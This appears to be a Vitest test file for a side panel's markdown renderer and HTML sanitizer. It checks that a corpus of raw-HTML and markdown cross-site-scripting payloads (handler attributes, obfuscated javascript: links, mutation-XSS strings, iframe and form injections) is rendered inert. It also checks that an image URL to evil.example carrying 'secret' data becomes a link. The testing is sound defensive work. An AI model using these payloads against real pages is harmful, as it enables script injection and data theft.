// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import './helpers/dom-shims';
import { renderMarkdownUncached } from '../../../sidepanel/markdown/render-markdown';
import { sanitizeHtml } from '../../../sidepanel/markdown/sanitize';
import { safeImageSrc, safeLinkHref } from '../../../sidepanel/markdown/url-policy';

/** Everything here must come out inert: no script, no handler, no dangerous URL, no SVG/forms. */
const HTML_CORPUS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://example.com/a.png" onload="alert(1)">',
  '<svg><script>alert(1)</script></svg>',
  '<svg onload=alert(1)><circle r=4 /></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=a><button>go</button></form>',
  '<style>body{display:none}</style>',
  '<div style="position:fixed;inset:0" onclick="alert(1)">cover</div>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<img src="http://insecure.example/x.png">',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<p class="approval-card">fake approval</p>',
  '<a href="https://ok.example" onmouseover="alert(1)">ok</a>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
];

const MARKDOWN_CORPUS = [
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](  javascript:alert(1)  )',
  '[click](java\tscript:alert(1))',
  '[click](<javascript:alert(1)>)',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click][ref]\n\n[ref]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x](https://example.com/x.png" onerror="alert(1))',
  '<script>alert(1)</script>',
  'text <img src=x onerror=alert(1)> text',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '<javascript:alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '[x](&#106;avascript:alert(1))',
];

function assertInert(html: string): void {
  const host = document.createElement('div');
  host.innerHTML = html;
  expect(
    host.querySelector(
      'script, style, iframe, form, input, textarea, select, svg, math, object, embed, base, meta, template',
    ),
  ).toBeNull();
  // Only our own copy buttons may be buttons.
  for (const b of Array.from(host.querySelectorAll('button')))
    expect(b.className).toBe('copy-code');
  for (const el of Array.from(host.querySelectorAll('*'))) {
    for (const attr of Array.from(el.attributes)) {
      expect(attr.name.startsWith('on'), `${attr.name} on <${el.tagName}>`).toBe(false);
      expect(attr.name).not.toBe('style');
    }
    const cls = el.getAttribute('class');
    if (cls)
      expect(
        ['code-block', 'copy-code', 'remote-image'].includes(cls) || /^language-/.test(cls),
      ).toBe(true);
  }
  for (const a of Array.from(host.querySelectorAll('a'))) {
    const href = a.getAttribute('href');
    if (href === null) continue;
    expect(href).toMatch(/^(https?:|mailto:)/);
    expect(a.getAttribute('target')).toBe('_blank');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
  }
  // Only inline images load; remote ones are links the user may open.
  for (const img of Array.from(host.querySelectorAll('img'))) {
    expect(img.getAttribute('src')).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/);
  }
}

describe('sanitizer', () => {
  it.each(HTML_CORPUS)('raw HTML is inert: %s', (html) => {
    assertInert(sanitizeHtml(html));
  });

  it.each(MARKDOWN_CORPUS)('markdown is inert: %s', (md) => {
    assertInert(renderMarkdownUncached(md, 'Copy'));
  });

  it('never loads a remote image by itself (an injected URL could carry data): it becomes a link', () => {
    const html = renderMarkdownUncached('![receipt](https://evil.example/leak?d=secret)', 'Copy');
    const host = document.createElement('div');
    host.innerHTML = html;
    expect(host.querySelector('img')).toBeNull();
    const a = host.querySelector('a.remote-image')!;
    expect(a.getAttribute('href')).toBe('https://evil.example/leak?d=secret');
    expect(a.textContent).toBe('[image: evil.example — receipt]');
  });

  it('shows raw HTML in markdown as text rather than interpreting it', () => {
    const html = renderMarkdownUncached('a <b>bold</b> word', 'Copy');
    expect(html).toContain('&lt;b&gt;');
  });

  it('keeps ordinary markdown and hardens links', () => {
    const html = renderMarkdownUncached(
      '**hi** [site](https://example.com/a?b=1) `x`\n\n- one\n- two',
      'Copy',
    );
    const host = document.createElement('div');
    host.innerHTML = html;
    expect(host.querySelector('strong')?.textContent).toBe('hi');
    const a = host.querySelector('a')!;
    expect(a.getAttribute('href')).toBe('https://example.com/a?b=1');
    expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    expect(a.getAttribute('target')).toBe('_blank');
    expect(host.querySelectorAll('li')).toHaveLength(2);
  });

  it('wraps code blocks with a copy button and keeps the language class', () => {
    const host = document.createElement('div');
    host.innerHTML = renderMarkdownUncached('```js\nconst a = "<b>";\n```', 'Copy code');
    const block = host.querySelector('.code-block')!;
    expect(block.querySelector('button.copy-code')?.getAttribute('aria-label')).toBe('Copy code');
    expect(block.querySelector('code')?.className).toBe('language-js');
    expect(block.querySelector('code')?.textContent).toBe('const a = "<b>";\n');
  });

  it('allows https and raster data images only', () => {
    expect(safeImageSrc('https://x.example/a.png')).toBe('https://x.example/a.png');
    expect(safeImageSrc('data:image/png;base64,iVBORw0KGgo=')).toBe(
      'data:image/png;base64,iVBORw0KGgo=',
    );
    expect(safeImageSrc('data:image/svg+xml;base64,PHN2Zz4=')).toBeNull();
    expect(safeImageSrc('http://x.example/a.png')).toBeNull();
    expect(safeImageSrc('/relative.png')).toBeNull();
  });

  it('allows absolute http(s) and mailto links only', () => {
    expect(safeLinkHref('https://a.example')).toBe('https://a.example/');
    expect(safeLinkHref('mailto:a@b.example')).toBe('mailto:a@b.example');
    expect(safeLinkHref('javascript:alert(1)')).toBeNull();
    expect(safeLinkHref(' java\nscript:alert(1)')).toBeNull();
    expect(safeLinkHref('data:text/html,x')).toBeNull();
    expect(safeLinkHref('/relative')).toBeNull();
  });
});
